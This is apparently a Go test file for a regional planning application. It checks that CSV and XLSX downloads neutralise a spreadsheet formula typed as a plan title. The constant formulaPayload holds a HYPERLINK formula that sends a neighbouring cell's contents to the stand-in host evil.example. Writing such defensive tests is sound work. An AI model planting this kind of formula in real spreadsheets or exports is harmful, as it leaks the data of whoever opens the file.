package main

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"net/http"
	"testing"

	"github.com/xuri/excelize/v2"
)

// A title typed in a district that a spreadsheet would run as a formula: opened, it would
// send the neighbouring cell to another site.
const formulaPayload = `=HYPERLINK("http://evil.example/?d="&B2,"Dettagli")`

// readCSV parses a downloaded CSV in the product's format (BOM, ';').
func readCSV(t *testing.T, r reply) [][]string {
	t.Helper()
	if r.status != http.StatusOK {
		t.Fatalf("CSV download: %d %s", r.status, r.body)
	}
	data, ok := bytes.CutPrefix(r.body, []byte("\ufeff"))
	if !ok {
		t.Fatalf("no UTF-8 BOM: %.20q", r.body)
	}
	cr := csv.NewReader(bytes.NewReader(data))
	cr.Comma = ';'
	recs, err := cr.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return recs
}

// column returns the cell of the named column in row i.
func column(t *testing.T, recs [][]string, i int, name string) string {
	t.Helper()
	if len(recs) <= i {
		t.Fatalf("%d records, want a row %d: %q", len(recs), i, recs)
	}
	for c, h := range recs[0] {
		if h == name && c < len(recs[i]) {
			return recs[i][c]
		}
	}
	t.Fatalf("no column %q in %q", name, recs[0])
	return ""
}

// literalText requires an XLSX cell to hold the payload as plain text: a shared string with
// no formula, which a spreadsheet shows and never evaluates.
func literalText(t *testing.T, r reply, sheet, cell string) {
	t.Helper()
	if r.status != http.StatusOK {
		t.Fatalf("XLSX download: %d %.200s", r.status, r.body)
	}
	f, err := excelize.OpenReader(bytes.NewReader(r.body))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if v, _ := f.GetCellValue(sheet, cell); v != formulaPayload {
		t.Errorf("%s!%s = %q, want the title verbatim", sheet, cell, v)
	}
	if fm, _ := f.GetCellFormula(sheet, cell); fm != "" {
		t.Errorf("%s!%s is a formula: %q", sheet, cell, fm)
	}
	if ct, _ := f.GetCellType(sheet, cell); ct != excelize.CellTypeSharedString {
		t.Errorf("%s!%s has type %v, want a shared string", sheet, cell, ct)
	}
}

func TestAFormulaTypedInADistrictIsInertInEveryDownload(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	udp := e.as("udp.valle-trompia", "valle-trompia")
	lombardia := e.as("regione.lombardia", "")

	var p, o idOnly
	udp.ok("POST", "/api/v1/plans", map[string]any{"title": formulaPayload, "start_year": 2021, "end_year": 2023}, &p)
	plan := fmt.Sprintf("/api/v1/plans/%d", p.ID)
	udp.ok("POST", plan+"/objectives", map[string]any{"title": formulaPayload, "area_code": "A"}, &o)

	// The regional table: the plan's title is neutralised, the other cells are as before.
	recs := readCSV(t, lombardia.do("GET", "/api/v1/regions/lombardia/districts.csv", nil))
	if len(recs) != 2 {
		t.Fatalf("regional CSV: %q, want header + Valle Trompia", recs)
	}
	if got := column(t, recs, 1, "Piano"); got != "'"+formulaPayload {
		t.Errorf("regional CSV Piano = %q, want it prefixed with an apostrophe", got)
	}
	if got := column(t, recs, 1, "Distretto"); got != "Ambito Distrettuale di Valle Trompia" {
		t.Errorf("regional CSV Distretto = %q", got)
	}
	if got := column(t, recs, 1, "Obiettivi"); got != "1" {
		t.Errorf("regional CSV Obiettivi = %q", got)
	}
	if got := column(t, recs, 1, "Stanziato €"); got != "0,00" {
		t.Errorf("regional CSV Stanziato = %q", got)
	}

	// The district's own CSV, written by the same writer.
	recs = readCSV(t, udp.do("GET", plan+"/export.csv", nil))
	if got := column(t, recs, 1, "Titolo"); got != "'"+formulaPayload {
		t.Errorf("district CSV Titolo = %q, want it prefixed with an apostrophe", got)
	}

	// The workbooks keep the title verbatim, as text: an XLSX string cell is never evaluated.
	literalText(t, lombardia.do("GET", "/api/v1/regions/lombardia/districts.xlsx", nil), "Distretti", "B2")
	literalText(t, udp.do("GET", plan+"/export.xlsx", nil), "Obiettivi", "D2")
}
